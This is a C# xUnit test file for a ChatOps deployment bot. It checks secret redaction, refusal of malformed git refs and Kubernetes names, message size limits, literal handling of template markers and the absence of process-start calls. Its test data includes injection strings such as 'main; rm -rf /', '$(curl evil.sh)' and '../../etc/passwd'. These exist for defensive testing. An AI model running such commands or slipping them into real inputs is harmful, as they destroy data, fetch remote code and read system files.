using ChatOps.Core.Audit;
using ChatOps.Core.Chat;
using ChatOps.Core.Commands;
using ChatOps.Core.Execution;
using ChatOps.Core.Parsing;
using ChatOps.Core.Security;
using ChatOps.Dialog.Tests.Fakes;

namespace ChatOps.Dialog.Tests.Policy;

/// <summary>Odd and hostile input is refused before it reaches an API, and secrets never come back out.</summary>
public class HardeningTests
{
    private const string Secret = "glpat-sandbox-secret-0000";

    /// <summary>Plans with a secret variable and fails with the token in its message, as a careless backend client might.</summary>
    private sealed class LeakyExecutor : ICommandExecutor
    {
        public IReadOnlySet<string> SupportedIntents { get; } = IntentNames.All.ToHashSet();

        public Task<ExecutionPlan> PlanAsync(ChatCommand command, CancellationToken cancellationToken) =>
            Task.FromResult(new ExecutionPlan(true, "pipeline with DEPLOY_ENV=prod, REGISTRY_TOKEN=hunter2hunter2"));

        public Task<ExecutionResult> ExecuteAsync(ExecutionRequest request, CancellationToken cancellationToken) =>
            throw new HttpRequestException($"401 from https://gitlab.local/api/v4?private_token={Secret}");
    }

    [Fact]
    public async Task Secrets_in_plans_and_exceptions_reach_neither_the_chat_nor_the_audit_trail_nor_the_stored_conversation()
    {
        var chat = new ChatScript();
        var audit = new InMemoryAuditLog(chat.Time);
        var handler = new TurnHandler(new ChatScriptParser(), new LeakyExecutor(), chat.Store, chat.Defaults, chat.Claims, ChatScript.Catalog,
            new DialogOptions { Policy = ChatScript.OpenPolicy }, chat.Time, audit, redactor: new SecretRedactor([Secret]));
        var key = new ConversationKey("T1", "C1", "leak");
        var confirm = await handler.HandleAsync(new IncomingTurn(key, "alice", "", Command: new ChatCommand("deploy", new ParsedEntities { Services = ["checkout"], Environment = "prod" })), CancellationToken.None);
        Assert.Contains("REGISTRY_TOKEN=****", confirm[0].Text, StringComparison.Ordinal);
        var failed = await handler.HandleAsync(new IncomingTurn(key, "alice", "", confirm[0].Buttons[0].ActionId), CancellationToken.None);
        Assert.Contains("That failed: 401 from https://gitlab.local/api/v4?private_token=****", failed[0].Text, StringComparison.Ordinal);
        var trail = string.Join("\n", audit.Rows.Select(r => r.Event.ToString()));
        Assert.Contains("failed", trail, StringComparison.Ordinal);
        Assert.DoesNotContain(Secret, trail, StringComparison.Ordinal);
        Assert.DoesNotContain("hunter2hunter2", trail, StringComparison.Ordinal);
        // nor the stored conversation: its plan, its last outcome and the replies kept until posted
        var stored = (await chat.Store.LoadAsync(key, CancellationToken.None))!.StateJson;
        Assert.Contains("private_token=****", stored, StringComparison.Ordinal);
        Assert.DoesNotContain(Secret, stored, StringComparison.Ordinal);
        Assert.DoesNotContain("hunter2hunter2", stored, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("{service}")]
    [InlineData("${CI_JOB_TOKEN}")]
    [InlineData("main; rm -rf /")]
    [InlineData("$(curl evil.sh)")]
    [InlineData("-delete")]
    [InlineData("release..x")]
    [InlineData("v1.0@{upstream}")]
    public async Task Refs_that_git_would_not_accept_or_that_look_like_templates_are_refused_before_planning(string reference)
    {
        var chat = new ChatScript();
        var text = await Typed(chat, new ParsedEntities { Services = ["checkout"], Environment = "uat", Ref = reference });
        Assert.Contains("I can't use that ref:", text, StringComparison.Ordinal);
        Assert.Empty(chat.Executor.Executed);
        Assert.Contains(chat.Audit.Rows, r => r.Event is { Kind: AuditKinds.Decision, Outcome: "refused", Rule: "input: ref" });
    }

    [Theory]
    [InlineData("Kube_System", null)]
    [InlineData("default", "../../etc/passwd")]
    [InlineData("default", "POD-1")]
    public async Task Kubernetes_names_must_be_dns_1123(string ns, string? pod)
    {
        var chat = new ChatScript();
        var text = await chat.Handler.HandleAsync(new IncomingTurn(chat.Key, "alice", "", Command: new ChatCommand("k8s.logs", new ParsedEntities { Namespace = ns, Pod = pod })), CancellationToken.None);
        Assert.Contains("is not a Kubernetes", text[0].Text, StringComparison.Ordinal);
        Assert.Empty(chat.Executor.Executed);
    }

    [Fact]
    public async Task An_oversized_message_is_refused_unread_and_audited()
    {
        var chat = new ChatScript();
        var text = await chat.Say("alice", "deploy cart to uat " + new string('x', 5000));
        Assert.Contains("That message is too long (5019 characters; the limit is 4000)", text, StringComparison.Ordinal);
        Assert.Empty(chat.Executor.Executed);
        Assert.Equal("message size", Assert.Single(chat.Audit.Rows).Event.Rule);
    }

    [Fact]
    public async Task Format_and_template_markers_in_chat_text_are_only_text()
    {
        var chat = new ChatScript();
        var text = await chat.Say("alice", "deploy {0} {1} {environment} {{7*7}} to uat");
        Assert.DoesNotContain("49", text, StringComparison.Ordinal);
        Assert.Empty(chat.Executor.Executed);
        Assert.Contains(chat.Audit.Rows, r => r.Event.Detail == "deploy {0} {1} {environment} {{7*7}} to uat");
    }

    [Fact]
    public void No_source_file_starts_a_process_so_no_chat_text_can_reach_a_shell()
    {
        var offenders = Directory.EnumerateFiles(Path.Combine(ChatScript.Root, "src"), "*.cs", SearchOption.AllDirectories)
            .Where(f => !f.Contains($"{Path.DirectorySeparatorChar}obj{Path.DirectorySeparatorChar}", StringComparison.Ordinal))
            .Where(f => File.ReadAllText(f) is var code && (code.Contains("ProcessStartInfo", StringComparison.Ordinal) || code.Contains("Process.Start", StringComparison.Ordinal)))
            .ToList();
        Assert.Empty(offenders);
    }

    private static async Task<string> Typed(ChatScript chat, ParsedEntities slots)
    {
        var replies = await chat.Handler.HandleAsync(new IncomingTurn(chat.Key, "alice", "", Command: new ChatCommand("deploy", slots)), CancellationToken.None);
        return string.Join("\n", replies.Select(r => r.Text));
    }

    /// <summary>Typed turns need no language model.</summary>
    private sealed class ChatScriptParser : IMessageParser
    {
        public ParseResult Parse(string text) => new(text, IntentNames.OutOfScope, 0, [], ParsedEntities.Empty);

        public ParsedEntities ExtractEntities(string text, string intent) => ParsedEntities.Empty;
    }
}
